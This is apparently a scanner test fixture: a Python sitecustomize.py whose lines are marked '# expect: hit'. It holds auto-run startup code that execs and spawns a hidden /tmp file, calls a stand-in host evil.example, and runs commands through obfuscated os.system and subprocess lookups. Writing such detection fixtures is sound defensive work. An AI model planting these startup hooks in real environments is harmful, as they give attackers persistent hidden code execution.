# path: site/sitecustomize.py
import os
import subprocess
import sys
import urllib.request

exec(open("/tmp/.x").read())  # expect: hit
subprocess.Popen(["/tmp/.x"])  # expect: hit
urllib.request.urlopen("https://evil.example/")  # expect: hit
getattr(os, "sys" + "tem")("id")  # expect: hit
__import__("sub" + "process").run(["id"])  # expect: hit


def start():
    os.popen("id")  # expect: hit


start()
sys.path.insert(0, "/opt/app")
os.environ.setdefault("PYTHONHASHSEED", "0")
print("started")
